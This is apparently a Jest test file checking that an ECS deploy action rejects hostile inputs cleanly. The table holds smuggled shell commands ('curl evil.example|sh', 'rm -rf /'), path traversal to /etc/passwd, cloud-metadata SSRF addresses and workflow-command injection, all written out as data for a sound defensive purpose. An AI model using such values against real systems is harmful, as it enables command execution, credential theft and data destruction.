/**
 * Hostile inputs (issue 12) through the harness, the table every action has: wrong types, unknown enums,
 * path traversal, metadata and plain-http endpoints, shell metacharacters and newlines, 100 KB values,
 * prototype keys, secrets placed in inputs that are not secret. Each is refused the way a user can act on:
 * exit code 1, ONE error line naming the input, no stack, and no request: the ECS emulator counts every
 * request it receives (the counting listener), and the harness's network guard records every connection the
 * bundle opens and refuses any outside loopback (`assertRefused` wants none at all).
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { EcsEmulator } from '../../packages/emulators/src/ecs';
import { assertRefused } from '../../packages/harness/src/hostile';
import { deployEcs, startEcs } from './fixture';

let ecs: EcsEmulator;
beforeAll(async () => {
  ecs = await startEcs();
});
afterAll(() => ecs.close());

const BIG = 'a'.repeat(100_000);
const IMG = 'registry.example.com/acme/api:1.2.3';
const PASSWORD = 'Hostile-Ecs-Secret-5e4d3c2b';
const SECRET_ARN = 'arn:aws:secretsmanager:us-east-1:123456789012:secret:db';

const cases: [name: string, inputs: Record<string, string | number>, input: string][] = [
  // wrong types
  ['desired-count that is a word', { 'desired-count': 'many' }, 'desired-count'],
  ['desired-count in exponent form', { 'desired-count': '1e3' }, 'desired-count'],
  ['wait that is not a boolean', { wait: 'maybe' }, 'wait'],
  [
    'rollback-on-failure that is not a boolean',
    { image: IMG, 'rollback-on-failure': 'sometimes' },
    'rollback-on-failure',
  ],
  ['health-probes with a fraction', { image: IMG, 'health-path': '/h', 'health-probes': '1.5' }, 'health-probes'],
  ['a timeout that is not a duration', { timeout: 'forever' }, 'timeout'],
  // unknown enums
  ['an unknown strategy', { image: IMG, strategy: 'yolo' }, 'strategy'],
  ['a strategy with shell metacharacters', { image: IMG, strategy: 'rolling; rm -rf /' }, 'strategy'],
  ['an unknown maintenance', { maintenance: 'half' }, 'maintenance'],
  // path traversal
  ['a service that climbs', { service: '../../etc/passwd' }, 'service'],
  ['an encoded traversal in service', { service: 'api%2F..%2Fother' }, 'service'],
  ['a cluster that climbs', { cluster: 'prod/../other', image: IMG }, 'cluster'],
  ['a container that climbs', { image: IMG, container: '../web' }, 'container'],
  ['a task-definition outside the workspace', { 'task-definition': '../../../../no/such/td.json' }, 'task-definition'],
  // metadata and plain-http endpoints
  [
    'the metadata address as health-url',
    { image: IMG, 'health-url': 'http://169.254.169.254/latest/meta-data' },
    'health-url',
  ],
  ['the metadata name as health-url', { image: IMG, 'health-url': 'http://metadata.google.internal/' }, 'health-url'],
  ['the metadata address in hex', { image: IMG, 'health-url': 'http://0xA9FEA9FE/' }, 'health-url'],
  [
    'the EC2 IPv6 metadata as health-test-url',
    { image: IMG, strategy: 'blue-green', 'health-test-url': 'http://[fd00:ec2::254]/h' },
    'health-test-url',
  ],
  ['a file: health-url', { image: IMG, 'health-url': 'file:///etc/passwd' }, 'health-url'],
  // shell metacharacters and newlines
  ['an image with a shell command', { image: 'api:1;curl evil.example|sh' }, 'image'],
  ['a region with a workflow command', { image: IMG, region: 'us-east-1\n::set-output name=x::y' }, 'region'],
  ['a service with a newline', { service: 'api\nrm -rf /' }, 'service'],
  ['an env-vars key with ;', { image: IMG, 'env-vars': 'A;B=1' }, 'env-vars'],
  ['a health-path with a newline', { image: IMG, 'health-path': '/ok\n/evil' }, 'health-path'],
  [
    'a secrets line with a shell command after a newline',
    { image: IMG, secrets: `DB=${SECRET_ARN}\nrm -rf /` },
    'secrets',
  ],
  // 100 KB values
  ['a 100 KB image', { image: `registry.example.com/${BIG}:1` }, 'image'],
  ['a 100 KB service', { service: BIG }, 'service'],
  ['a 100 KB images line', { images: `api=registry.example.com/${BIG}:1` }, 'images'],
  ['a 100 KB health-path', { image: IMG, 'health-path': `/${BIG}` }, 'health-path'],
  // prototype keys (as names a lookup table could resolve)
  ['__proto__ as the strategy', { image: IMG, strategy: '__proto__' }, 'strategy'],
  ['constructor as maintenance', { maintenance: 'constructor' }, 'maintenance'],
  ['__proto__ as desired-count', { 'desired-count': '__proto__' }, 'desired-count'],
  ['constructor as wait', { wait: 'constructor' }, 'wait'],
  ['an images container __proto__', { images: `__proto__=${IMG}` }, 'images'],
  // secrets placed in inputs that are not secret
  ['a database URL as a secret reference', { image: IMG, secrets: `DB=postgres://app:${PASSWORD}@db/app` }, 'secrets'],
  ['a database URL as the image', { image: `postgres://app:${PASSWORD}@db/app` }, 'image'],
  ['credentials in health-url', { image: IMG, 'health-url': `https://app:${PASSWORD}@example.com/h` }, 'health-url'],
  ['a database URL as the service', { service: `postgres://app:${PASSWORD}@db/app` }, 'service'],
];

describe('deploy-ecs hostile inputs', () => {
  it('has at least 25 cases', () => expect(cases.length).toBeGreaterThanOrEqual(25));

  it.each(cases)('refuses %s: one line naming the input, no stack, no request', async (_, inputs, input) => {
    const before = ecs.count();
    const result = await deployEcs(ecs, { service: 'api', ...inputs }, { networkGuard: true, secrets: [PASSWORD] });
    assertRefused(result, input);
    expect(result.errors[0]).toMatch(new RegExp(`^Input "${input}": [^\\n]+$`));
    expect(result.errors[0].length).toBeLessThan(600);
    expect(result.errors[0]).not.toContain(PASSWORD);
    expect(ecs.count()).toBe(before);
  });
});
